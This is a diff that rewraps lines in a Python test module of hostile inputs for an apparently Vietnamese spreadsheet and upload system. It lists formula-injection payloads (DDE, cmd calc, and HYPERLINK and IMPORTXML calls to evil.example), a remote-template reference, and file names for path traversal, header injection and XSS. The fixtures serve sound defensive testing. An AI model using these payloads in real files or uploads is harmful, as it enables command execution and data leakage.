@@ -16,7 +16,8 @@ from tests.abuse.hostile_packages import HEADER, LINE, Made, changed, header_row
 from tests.files.conftest import build
 
 FORMULAS = (
-    '=HYPERLINK("http://evil.example","Bấm")', "=1+1", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example","Bấm")', "=1+1", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1", "\r=1+1", "\n=1+1", "=DDE(\"cmd\";\"/C calc\";\"a\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "＝1+1",
     ";=1+1", "|=1", "%0A=1+1", "=cmd|' /C notepad'!'A1'",
 )  # fmt: skip
@@ -43,9 +44,12 @@ TEXTS = {
     "old code VNI": to_legacy("Nguyễn Thị Hường Đỗ", LegacyFont.VNI),
     "half old, half new code": "Nguyễn " + to_legacy("Thị Hường", LegacyFont.TCVN3),
 }
-DATES = ("15/08/1985", "1985", "8/15/1985", "15-8-85", "31/02/1985", "1985-08-15", 31274, 31274.5, -5, 0, 60, 2958466, 1e12, "1985.0",
-         "ngày 15 tháng 8 năm 1985", "15/08/0985", "00/00/0000", "29/02/1985", "tháng 8/1985", "1985-08-15T00:00:00Z", True)  # fmt: skip
-NUMBERS = ("89,5", "89.5", "1.234,5", "1,234.5", "1e309", "NaN", "-1", "1/2", "٣", "½", "0x1F", "1_000", 1e308, -0.0, 0.1 + 0.2, 10**15,
+DATES = ("15/08/1985", "1985", "8/15/1985", "15-8-85", "31/02/1985", "1985-08-15", 31274, 31274.5, -5, 0, 60,
+2958466, 1e12, "1985.0",
+         "ngày 15 tháng 8 năm 1985", "15/08/0985", "00/00/0000", "29/02/1985", "tháng 8/1985",
+         "1985-08-15T00:00:00Z", True)  # fmt: skip
+NUMBERS = ("89,5", "89.5", "1.234,5", "1,234.5", "1e309", "NaN", "-1", "1/2", "٣", "½", "0x1F", "1_000", 1e308, -0.0,
+0.1 + 0.2, 10**15,
            "9" * 400, "1,2,3", "100,0001", " 5 ", "5 điểm", "N2", "II", True)  # fmt: skip
 UNITS = (
     "STT",
@@ -241,7 +245,10 @@ def other_kinds() -> Iterator[Made]:
 
 def evidence() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
     """Title, file name and content of evidence nobody should have to open."""
-    outside = b'<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+    outside = (
+        b'<Relationships><Relationship Id="a" Type="x/attachedTemplate"'
+        b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+    )
     yield (
         "a PDF that runs a script",
         "a.pdf",
@@ -322,8 +329,10 @@ def evidence() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
         ),
     )
     yield "11 MB", "a.pdf", lambda: pdf() + b" " * (11 * 1024 * 1024) + b"%%EOF"
-    for name in ("../../etc/passwd.pdf", "CON.pdf", "NUL", "a" * 300 + ".pdf", "\u202efdp.exe.pdf", "a\x00.pdf", "a.pdf.exe", "a.exe.pdf",
-                 ".pdf", "...", 'a";x=".pdf', "a\r\nSet-Cookie: x=1.pdf", "<img src=x onerror=alert(1)>.pdf", "=1+1.pdf", "ă" * 200 + ".pdf",
+    for name in ("../../etc/passwd.pdf", "CON.pdf", "NUL", "a" * 300 + ".pdf", "\u202efdp.exe.pdf", "a\x00.pdf",
+    "a.pdf.exe", "a.exe.pdf",
+                 ".pdf", "...", 'a";x=".pdf', "a\r\nSet-Cookie: x=1.pdf", "<img src=x onerror=alert(1)>.pdf",
+                 "=1+1.pdf", "ă" * 200 + ".pdf",
                  "a.PDF", "a.pdf ", "a.pdf.", "đ" * 100, "%2e%2e%2f.pdf", "a/b\\c.pdf"):  # fmt: skip
         yield f"a file named {name[:40]!r}", name, lambda: pdf()
 
